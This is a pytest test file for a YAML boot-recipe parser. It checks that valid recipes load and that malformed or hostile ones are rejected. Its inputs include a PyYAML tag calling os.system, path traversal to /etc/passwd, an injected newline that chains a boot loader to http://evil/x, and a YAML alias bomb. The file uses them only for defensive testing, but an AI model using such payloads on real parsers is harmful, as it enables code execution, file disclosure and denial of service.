"""Recipes: the demo parses; hostile or broken recipes fail with file:line and a fix."""

from __future__ import annotations

from pathlib import Path

import pytest

from trustboot.errors import ConfigError, ExitCode
from trustboot.recipe import demo_recipe_text, load_recipe, parse_recipe

REPO = Path(__file__).resolve().parent.parent

GOOD = """\
version: 1
name: r1
signer: {name: s1}
images:
  - {name: vmlinuz, role: kernel, source: build/vmlinuz}
  - {name: initrd.img, role: initrd, demo_size: 2MiB}
"""


def test_embedded_demo_matches_repo_copy() -> None:
    assert demo_recipe_text() == (REPO / "recipes" / "demo.yaml").read_text()
    r = load_recipe(REPO / "recipes" / "demo.yaml")
    assert r.name == "demo" and r.signer.name == "demo-signer"
    assert [i.role for i in r.images] == ["kernel", "initrd"]
    assert r.images[1].demo_size == 32 << 20


def test_good_recipe() -> None:
    r = parse_recipe(GOOD, "good.yaml")
    assert r.images[0].source == "build/vmlinuz" and r.images[0].demo_size is None
    assert r.images[1].demo_size == 2 << 20
    assert r.ca.key_type == "rsa-4096" and r.hash == "sha256"


@pytest.mark.parametrize(
    ("text", "where", "message"),
    [
        ("", "bad.yaml", "empty"),
        ("a: &x [1, 2]\nb: *x\n", "bad.yaml:1", "anchors and aliases"),
        ("version: 1\nx: !!python/object/apply:os.system [id]\n", "bad.yaml:2", "YAML tag"),
        (GOOD.replace("version: 1", "version: 2"), "bad.yaml:1", "unsupported recipe version"),
        (GOOD + "publish: yes\n", "bad.yaml:7", "unknown key 'publish'"),
        (GOOD.replace("name: vmlinuz", "name: ../../etc/passwd"), "bad.yaml:5", "not allowed"),
        (GOOD.replace("name: r1", "name: /abs"), "bad.yaml:2", "not allowed"),
        (GOOD.replace("demo_size: 2MiB", "demo_size: 3TiB"), "bad.yaml:6", "not a size"),
        (GOOD.replace("demo_size: 2MiB", "demo_size: 0"), "bad.yaml:6", "out of range"),
        (GOOD.replace("role: initrd, demo_size: 2MiB", "role: initrd"), "bad.yaml:6",
         "exactly one of source"),
        (GOOD.replace("{name: s1}", "{name: s1, key_type: rsa-1024}"), "bad.yaml:3",
         "too weak"),
        (GOOD.replace("{name: s1}", "{name: ../s1}"), "", "invalid certificate name"),
        (GOOD.replace("role: initrd", "role: rootfs"), "bad.yaml:6", "role 'rootfs'"),
        (GOOD + "hash: md5\n", "bad.yaml:7", "hash 'md5'"),
        (GOOD + "script: {cmdline: \"a\\nchain http://evil/x\"}\n", "bad.yaml:7",
         "newlines"),
        (GOOD + "script: {cmdline: \"x=${net0/ip}\"}\n", "bad.yaml:7", "'$'"),
        ("version: 1\nversion: 1\n", "bad.yaml:2", "appears twice"),
        ("[1, 2\n", "bad.yaml", "not valid YAML"),
        ("- 1\n- 2\n", "bad.yaml:1", "must be a mapping"),
    ],
)
def test_hostile_and_broken_recipes(text: str, where: str, message: str) -> None:
    with pytest.raises(ConfigError) as exc:
        parse_recipe(text, "bad.yaml")
    assert message in exc.value.message
    assert exc.value.message.startswith(where)
    assert exc.value.exit_code == ExitCode.CONFIG


def test_alias_bomb_is_refused_fast() -> None:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{i}: &a{i} [*a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}]" for i in range(1, 30)]
    with pytest.raises(ConfigError, match="anchors and aliases"):
        parse_recipe("\n".join(lines), "bomb.yaml")


def test_oversized_and_binary_files(tmp_path: Path) -> None:
    big = tmp_path / "big.yaml"
    big.write_bytes(b"# " + b"x" * (1 << 20) + b"\n")
    with pytest.raises(ConfigError, match="larger than 1 MiB"):
        load_recipe(big)
    binary = tmp_path / "bin.yaml"
    binary.write_bytes(b"\xff\xfe\x00garbage")
    with pytest.raises(ConfigError, match="not UTF-8"):
        load_recipe(binary)
    with pytest.raises(ConfigError, match="cannot read recipe"):
        load_recipe(tmp_path / "missing.yaml")
